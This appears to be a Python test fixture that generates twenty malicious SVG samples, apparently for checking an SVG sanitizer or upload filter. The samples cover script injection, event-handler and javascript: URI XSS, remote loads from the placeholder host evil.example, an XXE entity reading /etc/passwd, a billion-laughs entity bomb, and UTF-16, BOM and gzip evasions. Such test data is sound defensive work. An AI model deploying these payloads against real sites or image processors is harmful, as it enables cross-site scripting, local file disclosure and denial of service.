"""Twenty drawings (SVG) that do more than draw."""

from __future__ import annotations

import gzip


def _svg(inner: str, head: str = "") -> bytes:
    attributes = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return f"{head}<svg {attributes} width='9' height='9'>{inner}</svg>".encode()


_LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>'
)
CONTENTS = {
    "script": _svg("<script>alert(1)</script>"),
    "script from elsewhere": _svg("<script xlink:href='https://evil.example/x.js'/>"),
    "handler": _svg("<rect onclick='alert(1)' onload='alert(1)'/>"),
    "handler on the root": b"<svg onload=alert(1)>",
    "page inside": _svg("<foreignObject><body onload='alert(1)'/></foreignObject>"),
    "frame inside": _svg("<foreignObject><iframe src='javascript:alert(1)'/></foreignObject>"),
    "picture from elsewhere": _svg("<image xlink:href='https://evil.example/pixel.png'/>"),
    "local file": _svg("<image xlink:href='file:///etc/passwd'/>"),
    "link that runs": _svg("<a xlink:href='javascript:alert(1)'><rect/></a>"),
    "reference elsewhere": _svg("<use xlink:href='https://evil.example/x.svg#a'/>"),
    "animated link": _svg("<animate attributeName='href' values='javascript:alert(1)'/>"),
    "set handler": _svg("<set attributeName='onmouseover' to='alert(1)'/>"),
    "style from elsewhere": _svg("<style>@import 'https://evil.example/x.css';</style>"),
    "filter from elsewhere": _svg("<filter><feImage xlink:href='https://evil.example/x'/></filter>"),
    "entity": _svg("&e;", "<!DOCTYPE s [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"),
    "laughs": _svg("&c;", _LAUGHS),
    "style sheet": _svg("<rect/>", "<?xml-stylesheet href='https://evil.example/x.xsl'?>"),
    "wide letters": _svg("<script>alert(1)</script>").decode().encode("utf-16"),
    "mark before": b"\xef\xbb\xbf \n\n" + _svg("<script>alert(1)</script>", "<!-- GIF89a -->"),
    "packed": gzip.compress(_svg("<script>alert(1)</script>")),
}
